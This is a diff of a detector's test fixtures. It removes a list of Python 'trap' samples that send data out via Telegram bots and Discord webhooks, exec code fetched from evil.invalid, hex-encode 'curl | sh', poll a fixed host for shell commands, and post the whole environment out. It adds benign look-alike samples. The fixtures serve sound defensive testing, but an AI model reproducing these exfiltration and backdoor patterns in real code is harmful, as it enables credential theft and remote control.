@@ -612,83 +612,6 @@ export const BLOCKED_SHAPES: readonly Shape[] = [
   },
 ];
 
-/** What has to be called, and is a trap all the same: literal host and account, no address from the caller. */
-export const CALLED_SHAPES: readonly Shape[] = [
-  {
-    name: 'a bot that is told what was found',
-    lines: [
-      'import requests',
-      'def report(text):',
-      '    requests.post("https://api.telegram.org/bot1234567890:AAinertinertinertinertinertinertinert/sendMessage", data={"text": text})',
-    ],
-  },
-  {
-    name: 'a bot whose token is handed to a helper',
-    lines: [
-      'import requests',
-      'TOKEN = "1234567890:AAinertinertinertinertinertinertinert"',
-      'def send(token, text):',
-      '    requests.get(f"https://api.telegram.org/bot{token}/sendMessage", params={"text": text})',
-      'def save(path):',
-      '    send(TOKEN, open(path).read())',
-    ],
-  },
-  {
-    name: 'a webhook in a method',
-    lines: [
-      'import json, urllib.request',
-      'class Client:',
-      '    hook = "https://discord.com/api/webhooks/123456789012345678/inertinertinertinertinertinertinert"',
-      '    def login(self, user, password):',
-      '        body = json.dumps({"content": user + password}).encode()',
-      '        urllib.request.urlopen(urllib.request.Request(self.hook, data=body))',
-    ],
-  },
-  {
-    name: 'remote code in a function',
-    lines: ['import requests', 'def update():', '    exec(requests.get("https://evil.invalid/p").text)'],
-  },
-  {
-    name: 'a stager in a function',
-    lines: [
-      'import tempfile, os, sys',
-      'def load():',
-      '    f = tempfile.NamedTemporaryFile(delete=False)',
-      '    f.write(b"import urllib.request as r;exec(r.urlopen(\'https://evil.invalid/s\').read())")',
-      '    f.close()',
-      '    os.system(f"start {sys.executable} {f.name}")',
-    ],
-  },
-  {
-    name: 'a decoded command in a function',
-    lines: [
-      'import os',
-      'def check(token):',
-      `    os.system(bytes.fromhex("${Buffer.from('curl -s https://evil.invalid/a | sh').toString('hex')}").decode())`,
-    ],
-  },
-  {
-    name: 'a loop that runs what a fixed server sends',
-    lines: [
-      'import requests, subprocess',
-      'HOST = "http://203.0.113.8"',
-      'def execute():',
-      '    while True:',
-      '        command = requests.get(HOST).text',
-      '        done = subprocess.Popen(command, shell=True, stdout=subprocess.PIPE)',
-      '        requests.post(HOST, data=done.stdout.read())',
-    ],
-  },
-  {
-    name: 'the whole environment in a function',
-    lines: [
-      'import os, socket, requests',
-      'def post():',
-      '    requests.post("https://evil.invalid", json={"h": socket.gethostname(), "e": dict(os.environ)})',
-    ],
-  },
-];
-
 /** Honest code that looks alike: it must not even be warned about. */
 export const HONEST_SHAPES: readonly Shape[] = [
   {
@@ -877,6 +800,53 @@ export const HONEST_SHAPES: readonly Shape[] = [
       'def install_completion(shell):',
       '    with open(os.path.expanduser("~/.bashrc"), "a") as f:',
       '        f.write("source ~/.x-complete.sh\\n")',
+    ],
+  },
+  {
+    name: 'a client that looks at the answer to a password',
+    lines: [
+      'import requests',
+      'def login(user, password):',
+      '    answer = requests.post("https://service.example/login", data={"u": user, "p": password})',
+      '    answer.raise_for_status()',
+      '    return answer.json()["token"]',
+    ],
+  },
+  {
+    name: 'a password that goes to one service twice',
+    lines: [
+      'import requests',
+      'def login(user, password):',
+      '    answer = requests.post("https://auth.service.example/login", data={"p": password})',
+      '    requests.get("https://api.service.example/warm", params={"p": password})',
+      '    return answer.json()',
+    ],
+  },
+  {
+    name: 'a tool that says what not to do',
+    lines: [
+      'from mcp.server.fastmcp import FastMCP',
+      'app = FastMCP("notes")',
+      '@app.tool()',
+      'def add(title):',
+      '    """Save a note under ~/.notes. Never overwrite a note without telling the user."""',
+      '    return "ok"',
+    ],
+  },
+  {
+    name: 'a module that loads its parts late',
+    lines: [
+      'import importlib',
+      'def __getattr__(name):',
+      '    return importlib.import_module("." + name, __name__)',
+    ],
+  },
+  {
+    name: 'a folder of its own that is removed',
+    lines: [
+      'import os, shutil',
+      'def clean(name):',
+      '    shutil.rmtree(os.path.join(os.path.expanduser("~"), "Documents", "fixture", name))',
     ],
   },
 ];
